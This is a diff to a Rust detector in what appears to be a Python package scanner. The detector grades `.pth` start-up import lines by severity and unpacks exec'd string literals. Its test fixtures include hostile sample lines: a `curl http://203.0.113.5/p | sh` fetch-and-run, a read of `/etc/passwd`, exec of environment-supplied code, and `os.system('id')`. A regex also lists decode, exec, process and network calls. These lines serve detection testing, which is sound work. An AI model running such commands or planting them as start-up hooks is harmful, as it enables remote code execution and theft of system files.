@@ -1,11 +1,18 @@
 //! `execution.pth-exec`: `.pth` files whose `import` lines run code at every
 //! Python start-up (the `site` module executes any line starting with `import`).
 //!
-//! Quiet-ish for the well-known one-module forms (`import _virtualenv`,
-//! `import __editable___x_finder; __editable___x_finder.install()`, the
-//! setuptools distutils shim) → Low; anything else High; decoding, exec, process
-//! or network in the line Critical. Path lines are ignored. A shipped
-//! `sitecustomize.py`/`usercustomize.py` (imported by `site` at start-up) is High.
+//! Judges what the line executes, not that it executes. A line of the form
+//! `exec('<literal>')` is judged by the code in the literal (escapes decoded):
+//!
+//! | the line (and any exec'd literal) | severity |
+//! |---|---|
+//! | decodes, execs a non-literal, spawns a process or uses the network | Critical |
+//! | reads or writes files, builds names (`getattr`, `globals`, `chr`, `\x` escapes) or carries a blob | High |
+//! | a known shape: one-module imports (`import _virtualenv`, editable finders), the setuptools distutils shim, a setuptools `*-nspkg.pth` namespace line, or a start-up hook that imports a module only when an environment variable is set | Low |
+//! | any other code | Medium |
+//!
+//! Path lines are ignored. A shipped `sitecustomize.py`/`usercustomize.py` (imported
+//! by `site` at start-up) is High.
 
 use super::pysrc::{self, MAX_HITS_PER_FILE};
 use crate::model::{Category, Severity};
@@ -15,7 +22,7 @@ use std::sync::LazyLock;
 
 pub(crate) static META: DetectorMeta = DetectorMeta {
     id: "execution.pth-exec",
-    revision: 1,
+    revision: 2,
     title: "Runs code at every Python start-up through a .pth file.",
     category: Category::Execution,
     severity: Severity::High,
@@ -29,6 +36,71 @@ static DISTUTILS_SHIM: LazyLock<Regex> =
 static EVIL: LazyLock<Regex> = LazyLock::new(|| {
     Regex::new(r"(?-u:\b)(?:exec|eval|compile|b64decode|b32decode|a85decode|fromhex|unhexlify|decompress|marshal|subprocess|system|popen|urlopen|urllib|requests|socket|http\.client|Popen|codecs|rot13|rot_13)(?-u:\b)|__import__\(\s*['\x22](?:os|subprocess|base64|socket|urllib)").expect("evil")
 });
+
+/// What a start-up line may not do unless it is reviewed: touch files, build names, hide bytes.
+static RISKY: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"(?-u:\b)(?:open|write|writelines|remove|unlink|rmtree|chmod|getattr|setattr|globals|locals|vars|chr|ord|ctypes|shutil)(?-u:\b)|\\x[0-9a-fA-F]{2}|[A-Za-z0-9+/=]{80,}")
+        .expect("risky")
+});
+/// A setuptools namespace-package line: finds its own site directory and registers a module path.
+static NSPKG: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r"sys\._getframe\(1\)\.f_locals\[\s*'sitedir'\s*\]").expect("nspkg"));
+/// `exec('<literal>')` / `exec("<literal>")`: the code the line really runs.
+static EXEC_LITERAL: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"(?-u:\b)exec\(\s*(?:'((?:[^'\\]|\\.)*)'|"((?:[^"\\]|\\.)*)")\s*\)"#).expect("exec literal")
+});
+
+/// The escapes of a Python string literal's body that matter for reading code.
+fn unescape(body: &str) -> String {
+    let mut out = String::with_capacity(body.len());
+    let mut chars = body.chars();
+    while let Some(c) = chars.next() {
+        if c != '\\' {
+            out.push(c);
+            continue;
+        }
+        match chars.next() {
+            Some('n') => out.push('\n'),
+            Some('t') => out.push('\t'),
+            Some(q @ ('\'' | '"' | '\\')) => out.push(q),
+            Some(other) => {
+                out.push('\\');
+                out.push(other);
+            }
+            None => out.push('\\'),
+        }
+    }
+    out
+}
+
+/// The severity of one `import` line of a `.pth` file and the indicator naming why.
+fn judge(line: &str, base: &str) -> (Severity, String) {
+    // The code the line runs: the line without its `exec('<literal>')`, plus the literal's code.
+    let (mut outer, mut inner) = (line.to_string(), String::new());
+    if let Some(c) = EXEC_LITERAL.captures(line) {
+        let whole = c.get(0).map_or(0..0, |m| m.range());
+        outer.replace_range(whole, "_");
+        inner = unescape(c.get(1).or(c.get(2)).map_or("", |m| m.as_str()));
+    }
+    let code = format!("{outer}\n{inner}");
+    if let Some(m) = EVIL.find(&code) {
+        return (Severity::Critical, format!("import … {}", m.as_str().split('(').next().unwrap_or("")));
+    }
+    if let Some(m) = RISKY.find(&code) {
+        let what = if m.as_str().len() > 24 { "a blob" } else { m.as_str() };
+        return (Severity::High, format!("import … {what}"));
+    }
+    let env_gated = code.contains("environ") && (code.contains("import ") || code.contains("__import__("));
+    if SIMPLE.is_match(line) || DISTUTILS_SHIM.is_match(line) {
+        (Severity::Low, "import".to_string())
+    } else if NSPKG.is_match(line) && base.ends_with("-nspkg.pth") {
+        (Severity::Low, "import (namespace package)".to_string())
+    } else if env_gated {
+        (Severity::Low, "import (start-up hook behind an environment variable)".to_string())
+    } else {
+        (Severity::Medium, "import …".to_string())
+    }
+}
 
 pub(crate) struct PthExec;
 
@@ -61,13 +133,7 @@ impl Detector for PthExec {
             if !(t.starts_with("import ") || t.starts_with("import\t")) || n >= MAX_HITS_PER_FILE {
                 continue;
             }
-            let (sev, ind) = if let Some(m) = EVIL.find(t) {
-                (Severity::Critical, format!("import … {}", m.as_str().split('(').next().unwrap_or("")))
-            } else if SIMPLE.is_match(t) || DISTUTILS_SHIM.is_match(t) {
-                (Severity::Low, "import".to_string())
-            } else {
-                (Severity::High, "import …".to_string())
-            };
+            let (sev, ind) = judge(t, base);
             n += 1;
             let col = line.len() - line.trim_start().len();
             hits.push(&META, Hit { severity: Some(sev), evidence: pysrc::evidence(file, start + col, ind) });
@@ -82,6 +148,9 @@ mod tests {
     use crate::scan::detectors::testutil::table;
     use Severity::*;
 
+    /// What setuptools writes for a namespace package (`zope`), one line.
+    const NSPKG_LINE: &str = "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('zope',));importlib = has_mfs and __import__('importlib.util');has_mfs and __import__('importlib.machinery');m = has_mfs and sys.modules.setdefault('zope', importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('zope', [os.path.dirname(p)])));m = m or sys.modules.setdefault('zope', types.ModuleType('zope'));mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)\n";
+
     #[test]
     fn cases() {
         table(
@@ -92,7 +161,15 @@ mod tests {
                 ("os via __import__", "x.pth", InstallTime, "import sys; __import__('os').system('id')\n", Some((1, "import … __import__", Critical))),
                 ("editable finder", "__editable__.pkg-1.0.pth", InstallTime, "import __editable___pkg_1_0_finder; __editable___pkg_1_0_finder.install()\n", Some((1, "import", Low))),
                 ("distutils shim", "distutils-precedence.pth", InstallTime, "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n", Some((1, "import", Low))),
-                ("other code", "x.pth", InstallTime, "import sys; sys.path.insert(0, '/opt/x')\n", Some((1, "import …", High))),
+                ("other code", "x.pth", InstallTime, "import sys; sys.path.insert(0, '/opt/x')\n", Some((1, "import …", Medium))),
+                ("setuptools namespace package", "zope.interface-5.0-py3.9-nspkg.pth", InstallTime, NSPKG_LINE, Some((1, "import (namespace package)", Low))),
+                ("namespace shape under another name", "x.pth", InstallTime, NSPKG_LINE, Some((1, "import …", Medium))),
+                ("namespace shape that also opens a file", "x-nspkg.pth", InstallTime, "import sys, types, os;p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('x',));open(p + '/.x', 'w')\n", Some((1, "import … open", High))),
+                ("env-gated start-up hook (coloured logging)", "coloredlogs.pth", InstallTime, "import os; exec('try: __import__(\"coloredlogs\").auto_install() if os.environ.get(\"COLOREDLOGS_AUTO_INSTALL\") else None\\nexcept ImportError: pass')\n", Some((1, "import (start-up hook behind an environment variable)", Low))),
+                ("env-gated coverage-style hook", "cov.pth", InstallTime, "import os, sys;exec('if \\'COV_CORE_SOURCE\\' in os.environ:\\n try:\\n  from pkg_cov.embed import init\\n  init()\\n except Exception:\\n  pass\\n')\n", Some((1, "import (start-up hook behind an environment variable)", Low))),
+                ("env-gated hook whose literal spawns a process", "x.pth", InstallTime, "import os; exec('if os.environ.get(\"X\"): os.system(\"curl http://203.0.113.5/p | sh\")')\n", Some((1, "import … system", Critical))),
+                ("env-gated hook whose literal reads a file", "x.pth", InstallTime, "import os; exec('if os.environ.get(\"X\"): print(open(\"/etc/passwd\").read())')\n", Some((1, "import … open", High))),
+                ("exec of a non-literal", "x.pth", InstallTime, "import os; exec(os.environ.get('CODE', ''))\n", Some((1, "import … exec", Critical))),
                 ("paths only", "x.pth", InstallTime, "/opt/lib\n../src\n", None),
                 ("python file with import", "pkg/a.py", Runtime, "import os\n", None),
                 ("sitecustomize in a wheel", "sitecustomize.py", Runtime, "import os\nos.environ[\x27X\x27] = \x271\x27\n", Some((1, "sitecustomize.py", High))),
